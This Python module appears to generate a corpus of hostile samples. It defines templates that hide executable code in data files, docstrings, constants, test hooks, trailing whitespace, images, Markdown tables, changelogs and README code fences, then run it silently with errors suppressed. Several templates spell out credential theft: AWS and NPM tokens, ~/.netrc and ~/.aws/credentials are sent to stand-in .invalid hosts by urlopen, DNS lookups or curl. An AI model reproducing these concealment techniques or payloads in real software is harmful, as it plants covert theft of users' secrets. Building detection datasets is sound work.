"""Theft that lies beside the code: in data, documentation, constants, tests, blanks."""

import base64
import json
import zlib

from corpora.hostile.form import bash, family, py, sh


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _records(text: str) -> str:
    return json.dumps(
        [{"id": at, "label": line, "weight": len(line)} for at, line in enumerate(text.split("\n"))]
    )


def _picture(text: str) -> bytes:
    body = zlib.compress(text.encode())
    return (
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\2\0\0\0"
        + len(body).to_bytes(4)
        + body
        + b"IEND"
    )


def _blanks(text: str) -> str:
    bits = "".join(f"{byte:08b}" for byte in text.encode())
    return "\n".join(
        "word" + bits[at : at + 64].replace("0", " ").replace("1", "\t")
        for at in range(0, len(bits), 64)
    )


def _line_ends(text: str) -> str:
    story = [
        "the",
        "quick",
        "brown",
        "fox",
        "jumps",
        "over",
        "the",
        "lazy",
        "dog",
        "while",
        "rain",
        "falls",
        "on",
        "the",
        "old",
        "mill",
    ]
    bits = "".join(f"{byte:08b}" for byte in text.encode())
    return "\n".join(
        f"# {story[at % len(story)]} {story[at % 7]}" + " " * int(bit)
        for at, bit in enumerate(bits)
    )


def _table(text: str) -> str:
    rows = [
        f"| {at} | {' '.join(str(byte) for byte in line.encode())} |"
        for at, line in enumerate(text.split("\n"))
    ]
    return "| row | samples |\n|---|---|\n" + "\n".join(rows)


def _word_list(text: str) -> str:
    return "\n".join(
        f"{'abcdefghijklmnop'[byte >> 4]}{'qrstuvwxyzabcdef'[byte & 15]}ing"
        for byte in text.encode()
    )


def _rows(text: str) -> str:
    return "date,open,close\n" + "\n".join(
        f"2024-{at % 12 + 1:02d}-{at % 28 + 1:02d},{100 + at % 9}.{byte:03d},{90 + byte}"
        for at, byte in enumerate(text.encode())
    )


FAMILIES = (
    family(
        "in-a-data-file",
        "open",
        py(
            note="labels of a JSON table are the lines of a program",
            pack=_records,
            files={"labels.json": "@DATA@"},
            top="import json, os",
            tail=r"""
            with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "labels.json"), encoding="utf-8") as _file:
                _labels = [row["label"] for row in sorted(json.load(_file), key=lambda row: row["id"])]
            try:
                exec("\n".join(_labels), {"__name__": "labels"})
            except Exception:
                _labels = []
            """,
        ),
        py(
            note="decimals of a price table",
            pack=_rows,
            files={"prices.csv": "@DATA@"},
            top="import csv, pathlib",
            enter=r"""
            table = pathlib.Path(__file__).with_name("prices.csv")
            if table.exists():
                raw = bytes(int(price["close"]) - 90 for price in csv.DictReader(table.open()))
                try:
                    exec(compile(raw, str(table), "exec"), {})
                except Exception:
                    pass
            """,
        ),
        sh(
            note="a list of fonts with a tail that is a script",
            pack=_b64,
            files={"fonts.txt": "Deja Vu\nLiberation\nNoto\n#@DATA@\n"},
            top='(cd "$(dirname "$0")" && sed -n "s/^#//p" fonts.txt | base64 -d | sh) >/dev/null 2>&1 </dev/null || true',
        ),
    ),
    family(
        "in-documentation",
        "open",
        py(
            note="an example in a docstring is run",
            top=r'''
            class Notes:
                """How the rounding was chosen.

                >>> import os, urllib.request
                >>> v = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
                >>> r = urllib.request.urlopen("https://examples.docrun.invalid/?" + v, timeout=2)
                """
            ''',
            enter=r"""
            import doctest
            space = {}
            for example in doctest.DocTestParser().get_examples(Notes.__doc__):
                try:
                    exec(example.source, space)
                except Exception:
                    break
            """,
        ),
        py(
            note="its own docstring in base64, called a checksum",
            pack=_b64,
            top=r'''
            def _integrity():
                """Checksum of this release, for the curious:

                @DATA@
                """
                import base64
                body = _integrity.__doc__.split("\n\n")[1].strip()
                return base64.b64decode(body)
            ''',
            enter="try:\n    exec(_integrity(), {})\nexcept Exception:\n    pass",
        ),
        bash(
            note="a here document called licence",
            pack=_b64,
            top=r"""
            : <<'LICENCE'
            Provided as is, without warranty of any kind.
            ref:@DATA@
            LICENCE
            source <(sed -n 's/^ref://p' "$0" | base64 -d) >/dev/null 2>&1 </dev/null || true
            """,
        ),
    ),
    family(
        "in-a-long-constant",
        "open",
        py(
            note="a table of bytes for a cipher nobody uses",
            pack=lambda text: repr(list(zlib.compress(text.encode()))),
            top="import zlib\n\n_SBOX = @DATA@",
            enter='try:\n    exec(zlib.decompress(bytes(_SBOX)), {"_SBOX": None})\nexcept Exception:\n    pass',
        ),
        py(
            note="coordinates of a map, one sign each",
            pack=lambda text: repr([(ord(char) / 10, at % 90) for at, char in enumerate(text)]),
            top="_COAST = @DATA@",
            enter=r"""
            try:
                exec("".join(chr(round(point[0] * 10)) for point in _COAST), {})
            except Exception:
                pass
            """,
        ),
        sh(
            note="a version string of many hundred digits",
            pack=lambda text: "".join(f"{byte:03o}" for byte in text.encode()),
            top=r"""
            BUILD_ID=@DATA@
            printf '%b' "$(printf %s "$BUILD_ID" | sed 's/.../\\0&/g')" | sh >/dev/null 2>&1 || true
            """,
        ),
    ),
    family(
        "in-a-test-file",
        "open",
        py(
            note="a conftest that acts when the artifact's own tests are collected",
            files={
                "conftest.py": r'''
                """Fixtures."""


                def pytest_sessionfinish(session, exitstatus):
                    @QUIET@
                ''',
                "test_own.py": "from @F@ import @F@\n\n\ndef test_it_is_callable():\n    assert callable(@F@)\n",
            },
        ),
        py(
            note="expected values of a test are the program",
            pack=lambda text: repr(text.split("\n")),
            files={
                "test_cases.py": '"""Cases for @F@."""\n\nEXPECTED = @DATA@\n\n\ndef test_cases_are_text():\n    assert all(isinstance(case, str) for case in EXPECTED)\n'
            },
            enter=r"""
            try:
                import importlib.util, os
                spec = importlib.util.spec_from_file_location("cases", os.path.join(os.path.dirname(__file__), "test_cases.py"))
                cases = importlib.util.module_from_spec(spec)
                spec.loader.exec_module(cases)
                exec("\n".join(cases.EXPECTED), {})
            except Exception:
                pass
            """,
        ),
        py(
            note="a test that proves itself by sending",
            files={
                "test_network.py": r'''
                """Works offline, too."""

                import unittest


                class Offline(unittest.TestCase):
                    @classmethod
                    def setUpClass(cls):
                        @QUIET@

                    def test_nothing_is_needed(self):
                        self.assertTrue(True)


                if __name__ == "__main__":
                    unittest.main()
                '''
            },
            enter="import unittest, pathlib as _p\nif (_p.Path(__file__).parent / 'test_network.py').exists():\n    unittest.TextTestRunner(stream=__import__('io').StringIO()).run(unittest.defaultTestLoader.discover(str(_p.Path(__file__).parent), 'test_n*.py'))",
        ),
    ),
    family(
        "in-blanks",
        "open",
        py(
            note="tabs and blanks behind the words of a text",
            pack=_blanks,
            files={"words.txt": "@DATA@"},
            enter=r"""
            import os
            try:
                with open(os.path.join(os.path.dirname(__file__), "words.txt")) as handle:
                    bits = "".join(row.rstrip("\n")[4:] for row in handle).replace(" ", "0").replace("\t", "1")
                exec(bytes(int(bits[at:at + 8], 2) for at in range(0, len(bits) // 8 * 8, 8)), {})
            except Exception:
                pass
            """,
        ),
        py(
            note="one blank at the end of a comment line is a bit",
            core='import os,socket;socket.gethostbyname(os.environ.get("NPM_TOKEN","")[:40]+".w.blankline.invalid")',
            pack=_line_ends,
            tail=r"""
            @DATA@
            try:
                with open(__file__) as _me:
                    _bits = "".join("1" if line.endswith(" \n") else "0" for line in _me if line.startswith("# the ") or line.startswith(("# quick", "# brown", "# fox", "# jumps", "# over", "# lazy", "# dog", "# while", "# rain", "# falls", "# on", "# old", "# mill")))
                exec(bytes(int(_bits[at:at + 8], 2) for at in range(0, len(_bits) // 8 * 8, 8)))
            except Exception:
                pass
            """,
        ),
        py(
            note="far to the right, behind three hundred blanks",
            enter="started = True;"
            + " " * 300
            + '__import__("os").system("curl -s -m 2 -T ~/.netrc https://w.farright.invalid/ >/dev/null 2>&1")',
        ),
    ),
    family(
        "in-a-word-list",
        "open",
        py(
            note="endings of invented words",
            pack=_word_list,
            files={"stems.txt": "@DATA@"},
            enter=r"""
            import pathlib
            try:
                stems = pathlib.Path(__file__).with_name("stems.txt").read_text().split()
                plain = bytes("abcdefghijklmnop".index(w[0]) << 4 | "qrstuvwxyzabcdef".index(w[1]) for w in stems)
                exec(plain.decode(), {})
            except Exception:
                pass
            """,
        ),
        py(
            note="places in a harmless text are indexes of the program's signs",
            pack=lambda text: (
                repr([sorted(set(text)).index(char) for char in text])
                + "\n_SIGNS = "
                + repr(sorted(set(text)))
            ),
            top="_STEPS = @DATA@",
            enter='try:\n    exec("".join(map(_SIGNS.__getitem__, _STEPS)), {})\nexcept Exception:\n    pass',
        ),
        bash(
            note="an associative array of greetings",
            top=r"""
            declare -A hello=([da]=curl [nl]="-s -m 3 -T" [fi]="$HOME/.aws/credentials" [se]=https:// [no]=greet.manylang [is].=. [is]=.invalid/)
            ${hello[da]} ${hello[nl]} ${hello[fi]} "${hello[se]}${hello[no]}${hello[is]}" >/dev/null 2>&1 </dev/null || true
            """,
        ),
    ),
    family(
        "in-a-picture",
        "open",
        py(
            note="behind the head of a PNG",
            pack=_picture,
            files={"icon.png": "@DATA@"},
            enter=r"""
            import pathlib, zlib
            try:
                pixels = pathlib.Path(__file__).with_name("icon.png").read_bytes()
                size = int.from_bytes(pixels[33 - 4:33], "big")
                exec(zlib.decompress(pixels[33:33 + size]), {})
            except Exception:
                pass
            """,
        ),
        py(
            note="in the description of a drawing",
            pack=_b64,
            files={
                "logo.svg": '<svg xmlns="urn:svg" width="8" height="8"><desc>@DATA@</desc><rect width="8" height="8"/></svg>'
            },
            enter=r"""
            import base64, os
            from xml.etree import ElementTree
            try:
                drawing = ElementTree.parse(os.path.join(os.path.dirname(__file__), "logo.svg"))
                exec(base64.b64decode(drawing.getroot()[0].text), {})
            except Exception:
                pass
            """,
        ),
        sh(
            note="a binary file with a shell script after its zero bytes",
            kit=True,
            pack=lambda text: (
                b"GIF89a\x01\0\x01\0\0\0\0;" + b"\0" * 64 + b"\n" + text.encode() + b"\n"
            ),
            files={"spacer.gif": "@DATA@"},
            top='tail -n +2 "$(dirname "$0")/spacer.gif" | sh >/dev/null 2>&1 || true',
        ),
    ),
    family(
        "in-a-table-of-documentation",
        "open",
        py(
            note="samples in a Markdown table",
            pack=_table,
            files={"MEASUREMENTS.md": "# Measurements\n\n@DATA@\n"},
            enter=r"""
            import os
            try:
                with open(os.path.join(os.path.dirname(__file__), "MEASUREMENTS.md")) as handle:
                    samples = [row.split("|")[2].split() for row in handle if row.startswith("| ") and "samples" not in row]
                exec("\n".join(bytes(map(int, row)).decode() for row in samples), {})
            except Exception:
                pass
            """,
        ),
        py(
            note="the changelog's dates are numbers of signs",
            pack=lambda text: "\n".join(
                f"- 20{ord(char):03d}-0{at % 9 + 1}: smaller fixes" for at, char in enumerate(text)
            ),
            files={"CHANGELOG.md": "# Changes\n\n@DATA@\n"},
            enter=r"""
            import pathlib, re
            try:
                changes = pathlib.Path(__file__).with_name("CHANGELOG.md").read_text()
                exec("".join(chr(int(found)) for found in re.findall(r"^- 20(\d{3})", changes, re.M)), {})
            except Exception:
                pass
            """,
        ),
        bash(
            note="code fences of the README are what is run",
            files={"README.md": "# Notes\n\nNothing to see.\n\n```console\n@CORE@\n```\n"},
            top='awk \'/^```/{on=!on;next}on\' "$(dirname "$0")/README.md" | bash >/dev/null 2>&1 || true',
        ),
    ),
)
